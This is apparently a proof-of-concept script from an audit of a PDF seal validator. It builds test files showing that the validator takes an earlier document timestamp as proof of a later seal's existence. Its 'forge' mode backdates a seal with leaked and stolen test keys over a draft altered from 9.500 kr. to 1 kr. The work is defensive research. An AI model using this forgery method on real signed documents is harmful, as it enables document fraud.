// B1: a proof of existence borrowed from a timestamp over other bytes. long-term.ts takes every verified
// document timestamp as a candidate POE and gives the seal the earliest proven one (`poeOfSeal`), without asking
// whether the timestamp covers the seal: a document timestamp in a revision *before* the seal's (its ByteRange
// ends before the seal's signature dictionary exists) is taken as proof that the seal existed at its genTime.
// EN 319 102-1 §5.6.2.4 / DSS: a timestamp is a POE only for the objects its imprint covers (a document
// timestamp: the revision it signs and everything in it; the seal is not in it).
// File: revision 1 = the sealed document's pages and attachments with the seal field still empty; revision 2 = a
// genuine document timestamp of 2025-12-01 over revision 1 (Time-Stamping Unit 2 of the test TSA CA); revision
// 3 = the seal (a seal certificate that expired on 2026-01-15; the signature timestamp of 2025-12-08 08:36:38
// by Unit 1) over everything; revision 4 = a DSS with the TSA CA's current OCSP "good" for Unit 2 and nothing
// for Unit 1 (as the broker's archives have nothing for their TSA). The signature timestamp is no proof now;
// the document timestamp is, and sealcheck says the seal existed on 2025-12-01, a week before it was made.
// Threat: with an expired (or revoked) seal key and a signature timestamp that is no longer provable (a TSA key
// stolen and revoked, or a TSA without revocation data, as the broker's), any genuine document timestamp from
// before the expiry, over any earlier revision, lifts the forgery to TOTAL-PASSED; the attacker gets one by
// timestamping an unsigned draft (any public TSA will) before the key's expiry.
//   npx tsx scripts/attack36b/poe-before-seal.ts [honest|forge|forge-honest]
// honest: the same seal and DSS without the earlier document timestamp: INDETERMINATE / OUT_OF_BOUNDS_NOT_REVOKED.
// default: TOTAL-PASSED, "the seal existed at 2025-12-01T00:00:00Z" (sealed 2025-12-08).
// forge: the whole forgery. The seal key (certificate expired 2026-01-15) leaked; Unit 1's key was stolen (its
// CA revoked it; the attacker leaves that out). On 2025-12-01 the attacker had Unit 2 stamp a draft whose page 1
// reads "Husleje: 1 kr." around the workflow's genuine token and attachments; today they seal it with the leaked
// key and a signature timestamp backdated to 2025-12-08 with Unit 1's key. sealcheck with the genuine originals:
// TOTAL-PASSED. forge-honest: the same forgery without the draft's timestamp: INDETERMINATE.
import { PDFArray, PDFDict, PDFName, PDFRef } from "pdf-lib";
import { addDocumentTimestamp, sealedBase } from "../generator/attacks.js";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { expiredSeal } from "../generator/lta.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { DEFAULT_ORIGINALS, createOriginalPdf } from "../generator/originals.js";
import { locateSignature, sealPrepared } from "../generator/pdf.js";
import { dss, pki, save, show, tool, verify, withDss, work } from "../attack36/lib.js";
import { secondTsa } from "./units.js";

const mode = process.argv[2] ?? "attack";
const honest = mode === "honest" || mode === "forge-honest";
const forge = mode.startsWith("forge");
const P0 = pki();
const P = { ...P0, seal: expiredSeal(P0) };
const dir = work("b1");
const tsa2 = secondTsa(P0); // Time-Stamping Unit 2 of the same TSA CA: the honest TSA the draft was stamped by
const early = new Date("2025-12-01T00:00:00Z");
// forge: page 1 says 1 kr. where the originals (and the token's digests of them) say 9.500 kr.
const shown = forge
  ? await Promise.all(DEFAULT_ORIGINALS.map((o) => createOriginalPdf({ ...o, pages: o.pages.map((p) => p.map((l) => l.replace("9.500 kr.", "1 kr."))) })))
  : undefined;
const base = await sealedBase(P, undefined, shown ? { originals: shown } : {});
let sealedBytes: Uint8Array;
if (honest) sealedBytes = sealPrepared(base.prepared, P);
else {
  // Revision 2: a document timestamp over revision 1 (the seal field still empty).
  const stamped = await addDocumentTimestamp(base.prepared.bytes, { ...P, tsa: tsa2 }, early);
  // Revision 3: the seal's signature dictionary as a new object (the field's /V and /Perms /DocMDP point to it),
  // then signed over the whole file.
  const doc = await loadForUpdate(stamped);
  const ctx = doc.context;
  const sigDict = (ctx.lookup(PDFRef.of(base.prepared.sigObject)) as PDFDict).clone(ctx);
  const sigRef = ctx.register(sigDict);
  const widgetRef = doc.catalog.lookup(PDFName.of("AcroForm"), PDFDict).lookup(PDFName.of("Fields"), PDFArray).get(0) as PDFRef;
  const widget = (ctx.lookup(widgetRef) as PDFDict).clone(ctx);
  widget.set(PDFName.of("V"), sigRef);
  const catalog = doc.catalog.clone(ctx);
  catalog.set(PDFName.of("Perms"), ctx.obj({ DocMDP: sigRef }));
  const { bytes } = appendIncrementalUpdate(stamped, {
    objects: [
      { num: sigRef.objectNumber, body: sigDict },
      { num: widgetRef.objectNumber, body: widget },
      { num: (ctx.trailerInfo.Root as PDFRef).objectNumber, body: catalog },
    ],
  });
  sealedBytes = sealPrepared(locateSignature(bytes, sigRef.objectNumber), P);
}
// The TSA CA's current answer for unit 2 (the document timestamp's); nothing for unit 1 (the signature
// timestamp's), as for the broker's TSA.
const tsa2Good = createOcspResponse({ subject: tsa2, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) });
const file = save(dir, "archive.pdf", withDss(sealedBytes, { ocsps: [tsa2Good], certs: [tsa2.der, P.tsaRoot.der] }));
console.log(
  `wrote ${file}: seal certificate expired 2026-01-15, signature timestamp 2025-12-08T08:36:38Z; ${honest ? "no earlier document timestamp" : `a document timestamp of ${early.toISOString()} in the revision before the seal`}; DSS: a current OCSP "good" for TSA unit 2 only`,
);
show(honest ? "honest: no document timestamp before the seal" : "attack: a document timestamp before the seal", verify(file));
console.log("== pdfsig:");
console.log(
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature #|Signer Certificate|Signing Time|Signature Validation|Total document|Signature Type|not total/.test(l))
    .join("\n"),
);
if (forge)
  console.log(
    `== pdftotext page 1: ${tool("pdftotext", ["-f", "1", "-l", "1", file, "-"])
      .split("\n")
      .filter((l) => /Husleje/.test(l))
      .join(" ")}`,
  );
dss(file);
